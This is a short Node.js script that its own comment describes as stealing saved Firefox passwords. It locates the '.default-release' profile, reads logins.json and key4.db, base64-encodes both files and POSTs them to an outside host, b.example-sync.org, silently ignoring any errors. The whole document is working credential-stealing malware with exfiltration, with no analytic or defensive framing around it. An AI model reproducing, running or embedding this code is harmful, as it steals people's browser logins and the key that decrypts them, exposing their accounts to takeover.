// Steals saved browser passwords: the Firefox profile directory is listed to find the
// profile whose name ends in ".default-release", and its logins.json and key4.db (the
// encrypted logins and the key that opens them) are uploaded as base64.
const fs = require('fs');
const os = require('os');
const path = require('path');

const root = path.join(os.homedir(), '.mozilla', 'firefox');
const profile = fs.readdirSync(root).find((d) => d.endsWith('.default-release'));
const files = ['logins.json', 'key4.db'].map((f) => ({
  name: f,
  data: fs.readFileSync(`${root}/${profile}/${f}`).toString('base64'),
}));
fetch('https://b.example-sync.org/u', { method: 'POST', body: JSON.stringify(files) }).catch(() => {});
